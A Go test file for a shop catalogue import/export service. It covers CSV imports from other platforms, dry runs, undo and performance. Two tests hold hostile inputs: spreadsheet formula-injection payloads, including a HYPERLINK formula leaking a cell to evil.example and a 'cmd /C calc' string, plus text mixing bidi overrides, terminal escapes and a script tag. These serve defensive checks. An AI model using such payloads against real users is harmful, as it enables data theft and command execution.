package app_test

import (
	"bytes"
	"cmp"
	"fmt"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"encoding/csv"
	"io"
	"strconv"
	"wekala/internal/app/apptest"
	"wekala/internal/catalogue/imports"
	"wekala/internal/identity/audit"
	"wekala/internal/platform/db"
	"wekala/internal/platform/db/dbtest"
	"wekala/internal/platform/errs"
	"wekala/internal/platform/sheets"
)

const asOwner = audit.CommandLine

// wanted describes how a test's file is imported.
type wanted struct {
	id, store string
	branches  []string
	dry       bool
	rights    imports.Rights
	by        string // '': by the machine's own command
}

func (o wanted) who() imports.Actor {
	return imports.Actor{StaffID: cmp.Or(o.by, asOwner), Rights: o.rights}
}

// uploaded uploads a file and sets its destination.
func uploaded(t testing.TB, s *apptest.Shop, text string, o wanted) *imports.Run {
	t.Helper()
	service, by := s.App.Imports(), o.who()
	r, err := service.Add(t.Context(), by, o.id, "file.csv", strings.NewReader(text), int64(len(text)))
	if err != nil {
		t.Fatal(err)
	}
	if err := service.Set(t.Context(), by, r.ID, -1,
		imports.Setting{Columns: r.Columns, Store: o.store, Branches: o.branches, VATBP: 1400}); err != nil {
		t.Fatal(err)
	}
	return r
}

// started has a file tried or imported by any node.
func started(t testing.TB, s *apptest.Shop, text string, o wanted) *imports.Run {
	t.Helper()
	r := uploaded(t, s, text, o)
	begin := s.App.Imports().Start
	if o.dry {
		begin = s.App.Imports().Check
	}
	if err := begin(t.Context(), o.who(), r.ID, -1); err != nil {
		t.Fatal(err)
	}
	return r
}

// inShop runs a file against a shop and returns the results of its items.
func inShop(t testing.TB, s *apptest.Shop, text string, o wanted) (*imports.Run, []imports.Result) {
	t.Helper()
	r := started(t, s, text, o)
	r, err := s.App.Imports().Finish(t.Context(), r.ID)
	if err != nil || r.State != map[bool]string{true: imports.Checked, false: imports.Done}[o.dry] {
		t.Fatalf("%+v %v", r, err)
	}
	return r, results(t, s, r)
}

func results(t testing.TB, s *apptest.Shop, r *imports.Run) []imports.Result {
	t.Helper()
	phase := imports.PhaseRun
	if r.State == imports.Checked {
		phase = imports.PhaseCheck
	}
	all, err := s.App.Imports().Results(t.Context(), r.ID, phase, "", -1, 10_000)
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// undone undoes a run and returns what stays.
func undone(t testing.TB, s *apptest.Shop, runID string) []imports.Result {
	t.Helper()
	if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, runID, -1); err != nil {
		t.Fatal(err)
	}
	if r, err := s.App.Imports().Finish(t.Context(), runID); err != nil || r.State != imports.Undone {
		t.Fatalf("%+v %v", r, err)
	}
	left, err := s.App.Imports().Results(t.Context(), runID, imports.PhaseUndo, "", -1, 10_000)
	if err != nil {
		t.Fatal(err)
	}
	return left
}

// catalogued is all data that an import can change.
func catalogued(s *apptest.Shop) []string {
	var all []string
	for _, query := range []string{
		`SELECT 'c ' || name_en || COALESCE(parent_id, '') FROM categories ORDER BY 1`,
		`SELECT 'p ' || id || slug || store_id || category_id || name_en || name_ar || description_en || description_ar ||
			images || attributes || options || keywords || tags
			|| unit_en || unit_ar || min_qty || ' ' || max_qty || ' ' || step_qty || ' ' || vat_bp || active || version
			FROM products ORDER BY 1`,
		`SELECT 'v ' || id || product_id || sku || barcode || choices || name_en || name_ar || active || weight_grams
			FROM variants ORDER BY 1`,
		`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT),
			'') || COALESCE(CAST(offer_to AS TEXT), '') || active || version FROM branch_prices ORDER BY 1`,
		`SELECT 's ' || branch_id || variant_id || on_hand || ' ' || reserved || counted FROM stock ORDER BY 1`,
		`SELECT 'm ' || COUNT(*) FROM stock_moves`,
	} {
		all = append(all, s.Lines(query)...)
	}
	return all
}

const fromShopify = `Handle,Title,Body (HTML),Vendor,Type,Option1 Name,Option1 Value,Variant SKU,Variant Inventory Qty,Variant Price,Variant Compare At Price,Image Src,Status
basbousa,Basbousa,<p>Sweet</p>,ACME,Sweets > Oriental,Size,Small,BAS-S,5,40,,https://cdn.example/a.jpg,draft
basbousa,,,,,,Large,BAS-L,2,60.50,80,,
konafa,كنافة,,ACME,Sweets,Title,Default Title,KON,x,35,,,active
broken,Broken,,ACME,Sweets,Title,Default Title,BRK,1,free,,,active
`

func TestAnImportFromAnotherShop(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		o := wanted{id: "imp_1", store: "koshary-house", branches: []string{"koshary-maadi", "koshary-zamalek"}}
		before := catalogued(s)
		dry := o
		dry.id, dry.dry = "imp_dry", true
		planned, told := inShop(t, s, fromShopify, dry)
		if after := catalogued(s); !slices.Equal(before, after) {
			t.Fatal("a dry run changed something")
		}
		rep, done := inShop(t, s, fromShopify, o)
		if fmt.Sprint(planned.Counts) != fmt.Sprint(rep.Counts) || rep.Counts[imports.Added] != 2 ||
			rep.Counts[imports.Refused] != 1 || fmt.Sprint(rep.Mapping().Unplaced()) != "[Vendor]" {
			t.Errorf("planned %+v, done %+v", planned, rep)
		}
		for i, one := range done {
			if one.Outcome != told[i].Outcome || len(one.Problems) != len(told[i].Problems) {
				t.Errorf("told %+v, done %+v", told[i], one)
			}
		}
		keys := map[string]string{"Basbousa": "imports.picture_elsewhere", "Broken": "imports.no_figure"}
		for _, one := range done {
			if want, ok := keys[one.Name]; ok && (len(one.Problems) != 1 || one.Problems[0].Key != want) {
				t.Errorf("%+v", one)
			}
		}
		if got := s.Lines(`SELECT v.sku || ' ' || v.name_en || ' ' || b.price || ' ' || COALESCE(b.offer_price,
			0) || ' ' || k.on_hand FROM variants v
			JOIN branch_prices b ON b.variant_id = v.id JOIN stock k ON k.variant_id = v.id AND k.branch_id = b.branch_id
			WHERE v.sku IN ('BAS-S', 'BAS-L') AND b.branch_id = 'br_koshary_maadi'
			ORDER BY v.sku`); fmt.Sprint(got) != "[BAS-L Large 8000 6050 2 BAS-S Small 4000 0 5]" {
			t.Error(got)
		}
		if got := s.Lines(`SELECT p.name_en || ' ' || c.name_en || ' ' || u.name_en FROM products p
			JOIN categories c ON c.id = p.category_id
			JOIN categories u ON u.id = c.parent_id
			WHERE p.slug = 'basbousa'`); fmt.Sprint(got) != "[Basbousa Oriental Sweets]" {
			t.Error(got)
		}
		// One language is enough to be published.
		if got := s.Lines(`SELECT 'x' FROM products WHERE name_ar = 'كنافة' AND name_en = '' AND active`); len(got) != 1 {
			t.Error("كنافة is a draft, though the file says that it is on sale")
		}
		// The same file again changes nothing.
		after := catalogued(s)
		o.id = "imp_2"
		again, _ := inShop(t, s, fromShopify, o)
		if again.Counts[imports.Same] != 2 || !slices.Equal(after, catalogued(s)) {
			t.Errorf("%+v", again)
		}
		s.Healthy()
	})
}

func TestVariationsThatComeLater(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		file := "ID,Type,SKU,Name,Published,Regular price,Categories,Parent,Attribute 1 name,Attribute 1 value(s)\n" +
			"7,variable,SHIRT,Shirt,1,,Clothes,,Size,\"S, " +
			"M\"\n8,simple,TEA-W,Tea,1,3,Drinks,,,\n9,variation,SH-S,x,1,50,,id:7,Size,S\n" +
			"10,variable,EMPTY,Empty,1,,Clothes,,Size,S\n11,variation,SH-M,x,1,55,,SHIRT,Size,M\n12,variation,LOST,x,1,5,,NONE,Size,M\n"
		o := wanted{id: "imp_dry", store: "gadgets", branches: []string{"gadgets-nasr"}, dry: true}
		dry, _ := inShop(t, s, file, o)
		o.id, o.dry = "imp_1", false
		rep, all := inShop(t, s, file, o)
		if got := s.Lines(`SELECT p.name_en || ' ' || v.sku || ' ' || v.name_en || ' ' || b.price FROM products p
			JOIN variants v ON v.product_id = p.id
			JOIN branch_prices b ON b.variant_id = v.id WHERE v.sku IN ('SH-S', 'SH-M', 'TEA-W')
			ORDER BY v.sku`); fmt.Sprint(got) != "[Shirt SH-M M 5500 Shirt SH-S S 5000 Tea TEA-W  300]" {
			t.Errorf("%v %+v", got, all)
		}
		if rep.Counts[imports.Refused] != 2 || dry.Counts[imports.Refused] != 2 ||
			fmt.Sprint(rep.Counts) != fmt.Sprint(dry.Counts) {
			t.Errorf("%+v %+v", rep, dry)
		}
		s.Healthy()
	})
}

// TestWhatIsExportedIsImported: importing an export changes nothing, and importing an edited export changes only the
// edited values.
func TestWhatIsExportedIsImported(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		var file bytes.Buffer
		rows, err := s.App.Imports().WriteOut(t.Context(), &file, imports.Export{})
		if err != nil || rows < 10 {
			t.Fatal(rows, err)
		}
		before := catalogued(s)
		rep, all := inShop(t, s, file.String(), wanted{id: "imp_1"})
		if after := catalogued(s); !slices.Equal(before, after) || rep.Format != imports.Ours ||
			len(rep.Mapping().Unplaced()) != 0 || rep.RowsDone != int64(rows) {
			t.Errorf("%+v %+v", rep, all)
			for i := range before {
				if i < len(after) && before[i] != after[i] {
					t.Errorf("%s\n%s", before[i], after[i])
				}
			}
		}
		if rep.Counts[imports.Same] != len(all) {
			t.Errorf("%+v %+v", rep.Counts, all)
		}
		// A price in a separate sheet, including Arabic digits.
		sku := s.Lines(`SELECT v.sku FROM variants v JOIN branch_prices b ON b.variant_id = v.id
			WHERE b.branch_id = 'br_koshary_maadi' ORDER BY v.id`)[0]
		rep, all = inShop(t, s, "الكود;الفرع;السعر;المخزون\n"+sku+";koshary-maadi;٩٩٫٥٠;٤\nNO-SUCH;koshary-maadi;5;1\n",
			wanted{id: "imp_2"})
		if rep.Format != imports.Prices || rep.Counts[imports.Changed] != 1 || rep.Counts[imports.Refused] != 1 {
			t.Errorf("%+v %+v", rep, all)
		}
		if got := s.Lines(`SELECT b.price FROM branch_prices b JOIN variants v ON v.id = b.variant_id
			WHERE b.branch_id = 'br_koshary_maadi' AND v.sku = '` + sku + `'`); fmt.Sprint(got) != "[9950]" {
			t.Error(got)
		}
		s.Healthy()
	})
}

// TestNothingExportedIsAFormula: a spreadsheet program computes nothing from the name of a product, and the name is
// imported unchanged.
func TestNothingExportedIsAFormula(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		hostile := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
			"'=already", "''@twice", "'plain", "=1;2, 3"}
		for i, name := range hostile {
			s.Exec(`UPDATE products SET name_en = $1, name_ar = $1, description_en = $1, keywords = $1, unit_en = $1
				WHERE id = (SELECT id FROM products WHERE archived_at IS NULL
				ORDER BY id LIMIT 1 OFFSET `+strconv.Itoa(i)+`)`, name)
		}
		s.Exec(`UPDATE variants SET sku = '=1+1' WHERE id = (SELECT MIN(id) FROM variants)`)
		for _, kind := range []string{"csv", "xlsx"} {
			var file bytes.Buffer
			if _, err := s.App.Imports().WriteOut(t.Context(), &file, imports.Export{Kind: kind}); err != nil {
				t.Fatal(err)
			}
			table, err := sheets.Open(bytes.NewReader(file.Bytes()), int64(file.Len()))
			if err != nil {
				t.Fatal(err)
			}
			marked := 0
			for {
				cells, line, err := table.Next()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Fatal(err)
				}
				for _, c := range cells {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s, line %d: %q", kind, line, c)
					}
					if strings.HasPrefix(c, "'=") || strings.HasPrefix(c, "'+") || strings.HasPrefix(c, "'-") ||
						strings.HasPrefix(c, "'@") {
						marked++
					}
				}
			}
			if marked < 10 {
				t.Errorf("%s: only %d cells are marked", kind, marked)
			}
			before := catalogued(s)
			rep, all := inShop(t, s, file.String(), wanted{id: "imp_" + kind})
			if after := catalogued(s); !slices.Equal(before, after) || rep.Counts[imports.Same] != len(all) {
				t.Errorf("%s: it does not come back as it was: %+v", kind, rep.Counts)
				for i := range before {
					if i < len(after) && before[i] != after[i] {
						t.Errorf("%s\n%s", before[i], after[i])
					}
				}
			}
		}
	})
}

// TestHostileTextInFiles: text in a file is cleaned like typed input: nothing changes the direction of other text,
// rings a bell or is part of an address.
func TestHostileTextInFiles(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		evil := "a\u202eb\u2066c\x1b[31md\x07<script>x</script>e\u200f"
		var file bytes.Buffer
		w := csv.NewWriter(&file)
		head := []string{"handle", "name_en", "name_ar", "description_en", "keywords", "tags", "unit_en", "category", "facts",
			"option1", "value1", "sku", "barcode", "branch", "price", "stock", "published"}
		_ = w.Write(head)
		row := make([]string, len(head))
		for i, c := range head {
			if row[i] = evil; c == "branch" || c == "price" || c == "stock" || c == "published" {
				row[i] = map[string]string{"branch": "koshary-maadi", "price": "10", "stock": "1", "published": "yes"}[c]
			}
		}
		row[8] = evil + "=" + evil + " / " + evil + "=" + evil
		_ = w.Write(row)
		w.Flush()
		was := apptest.Get[int](s, `SELECT COUNT(*) FROM products`)
		inShop(t, s, file.String(), wanted{id: "imp_1", store: "koshary-house"})
		if apptest.Get[int](s, `SELECT COUNT(*) FROM products`) != was+1 {
			t.Fatal("nothing was imported, so nothing is shown")
		}
		kept := append(catalogued(s), s.Lines(`SELECT name_en || name_ar FROM categories`)...)
		for _, line := range append(kept, s.Lines(`SELECT problems || name || grp FROM import_results`)...) {
			for _, c := range line {
				if c != '\n' && unseen(c) {
					t.Errorf("%U in %q", c, line)
					break
				}
			}
		}
		for _, slug := range s.Lines(`SELECT slug FROM products`) {
			if strings.ContainsAny(slug, "<>/\\ \"'") {
				t.Errorf("an address %q", slug)
			}
		}
		s.Healthy()
	})
}

// TestARunIsUndoneAsOne: everything is restored, except products that were changed or sold since, which are named.
func TestARunIsUndoneAsOne(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		values := func() []string {
			return append(append(s.Lines(`SELECT 'p ' || id || name_en || description_en || options || active FROM products
				WHERE archived_at IS NULL ORDER BY id`),
				s.Lines(`SELECT 'a ' || branch_id || variant_id || price || COALESCE(CAST(offer_price AS TEXT), '')
					FROM branch_prices WHERE active ORDER BY 1`)...),
				s.Lines(`SELECT 's ' || branch_id || variant_id || on_hand FROM stock WHERE on_hand > 0 ORDER BY 1`)...)
		}
		inShop(t, s, "handle,name_en,name_ar,category,sku,branch,price,offer_price,stock,published\n"+
			"lemonade,Lemonade,ليمون,Drinks,LEM-1,koshary-maadi,30,25,4,yes\n", wanted{id: "imp_0", store: "koshary-house"})
		before := values()
		file := "handle,name_en,name_ar,category,option1,value1,sku,branch,price,stock,published\n" +
			"new-a,New A,جديد,Sweets,Size,S,NEW-A,koshary-maadi,10,3,yes\nnew-b,New " +
			"B,جديد,Sweets,Size,S,NEW-B,koshary-maadi,10,3,yes\n" +
			"lemonade,Other lemonade,,,,,LEM-1,koshary-maadi,77.25,9,\n"
		o := wanted{id: "imp_1", store: "koshary-house"}
		rep, all := inShop(t, s, file, o)
		if rep.Counts[imports.Added] != 2 || rep.Counts[imports.Changed] != 1 {
			t.Fatalf("%+v %+v", rep, all)
		}
		if slices.Equal(before, values()) {
			t.Fatal("nothing was changed")
		}
		// One of them is edited further.
		s.Exec(`UPDATE products SET version = version + 1 WHERE id = $1`, all[1].ProductID)
		out := undone(t, s, "imp_1")
		if len(out) != 1 || out[0].ProductID != all[1].ProductID || out[0].Name != "جديد" || out[0].Outcome != imports.Left {
			t.Errorf("%+v", out)
		}
		var left []string
		kept := apptest.Get[string](s, `SELECT id FROM variants WHERE product_id = $1`, all[1].ProductID)
		for _, line := range values() {
			if !slices.Contains(before, line) && !strings.Contains(line, all[1].ProductID) && !strings.Contains(line, kept) {
				left = append(left, line)
			}
		}
		if len(left) != 0 || len(values()) != len(before)+3 { // it keeps its price and its stock
			t.Errorf("%v", left)
		}
		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_1", -1); !errs.Is(err,
			"imports.not_now") {
			t.Errorf("undone twice: %v", err)
		}
		if err := s.App.Imports().TakeBack(t.Context(), imports.Actor{StaffID: asOwner}, "imp_none", -1); !errs.Is(err,
			"common.not_found") {
			t.Errorf("a run that is not there was undone: %v", err)
		}
		s.Healthy()
	})
}

// TestImportSpeed has an editor import a large file, and again two days later with every product renamed slightly,
// and measures the CPU time of a row: it must not grow with the number of existing products.
func TestImportSpeed(t *testing.T) {
	if testing.Short() {
		t.Skip("a figure")
	}
	rows := apptest.Count(6_000, 100_000)
	file := func(called string) string {
		var b strings.Builder
		b.WriteString("handle,name_en,name_ar,category,option1,value1,sku,price,stock,published\n")
		for i := range rows {
			fmt.Fprintf(&b, "p%d,%s %d,قميص %d,Shirts,Size,%d,IMP-%d,%d.50,%d,yes\n", i/4, called, i/4, i/4, i%4, i, 10+i%90,
				i%20)
		}
		return b.String()
	}
	dbtest.InTurn(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		s.Staff("editor")
		for _, leg := range []struct {
			id, called, outcome string
			most                float64 // ms of CPU for a row
		}{{"imp_1", "Shirt", imports.Added, 1}, {"imp_2", "Shirts", imports.Changed, 2}} {
			r := started(t, s, file(leg.called), wanted{id: leg.id, store: "gadgets", branches: []string{"gadgets-nasr"},
				rights: imports.Rights{Role: "editor"}, by: "stf_000001"})
			// A leg ends at each quarter.
			began, used := time.Now(), []time.Duration{cpu(t)}
			for chunks := (rows/4 + 61) / 62; r.State != imports.Done; {
				n := 0
				err := s.App.Imports().Work(t.Context(), r.ID, func() bool { n++; return n > chunks/4+1 })
				used = append(used, cpu(t))
				if r, _ = imports.ReadRun(t.Context(), s.DB, r.ID); r.State != imports.Done && err == nil {
					t.Fatalf("%+v", r)
				}
			}
			if r.Counts[leg.outcome] != rows/4 {
				t.Errorf("%+v", r)
			}
			each := func(from, to int) float64 {
				return (used[to] - used[from]).Seconds() * 1000 / (float64(rows) / 4 * float64(to-from))
			}
			t.Logf("%s: %d rows at %.0f rows a second, %.3f ms of CPU each; the first quarter %.3f, the last %.3f", leg.outcome,
				rows, float64(rows)/time.Since(began).Seconds(), each(0, 4), each(0, 1), each(3, 4))
			if each(0, 4) > leg.most {
				t.Errorf("%s: %.3f ms of CPU for a row", leg.outcome, each(0, 4))
			}
			// Half of the maximum for a row exceeds the amount that one garbage collection adds to a quarter.
			if each(3, 4) > max(2*each(0, 1), leg.most/2) {
				t.Errorf("%s: the last quarter costs %.3f ms a row, the first %.3f", leg.outcome, each(3, 4), each(0, 1))
			}
			s.Clock.Advance(48 * time.Hour)
		}
	})
}

// cpu is the CPU time that this process has used.
func cpu(t testing.TB) time.Duration {
	t.Helper()
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		t.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// A failed run cannot be continued as something else: a trial starts again, and an undo is not completed by importing
// the rest.
func TestWhatFailedBeginsAnew(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := apptest.New(t, d)
		service, by := s.App.Imports(), imports.Actor{StaffID: asOwner}
		const file = "handle,name_en,name_ar,category,sku,branch,price,published\n" +
			"new-one,New,جديد,Sweets,N-1,koshary-maadi,20,yes\nnew-two,Newer,أجدد,Sweets,N-2,koshary-maadi,30,yes\n"
		r := started(t, s, file, wanted{id: "imp_f", store: "koshary-house", dry: true})
		kept := apptest.Get[string](s, `SELECT stored FROM imports WHERE id = $1`, r.ID)
		s.Exec(`UPDATE imports SET stored = 'gone', items_done = 1 WHERE id = $1`, r.ID)
		r, err := service.Finish(t.Context(), r.ID)
		if err != nil || r.State != imports.Uploaded || r.Wrong != "imports.file_gone" {
			t.Fatalf("a try of a file that is gone: %+v %v", r, err)
		}
		s.Exec(`UPDATE imports SET stored = $2 WHERE id = $1`, r.ID, kept)
		if err := service.Start(t.Context(), by, r.ID, -1); err != nil {
			t.Fatal(err)
		}
		if r, err = service.Finish(t.Context(), r.ID); err != nil || r.State != imports.Done || r.Counts[imports.Added] != 2 {
			t.Fatalf("brought in after it: %+v %v", r, err)
		}
		s.Exec(`UPDATE imports SET state = 'stopped' WHERE id = $1`, r.ID)
		s.Exec(`UPDATE import_changes SET undone = $2 WHERE import_id = $1`, r.ID, true)
		if err := service.Start(t.Context(), by, r.ID, -1); !errs.Is(err, "imports.not_now") {
			t.Errorf("gone on with after a part was undone: %v", err)
		}
	})
}
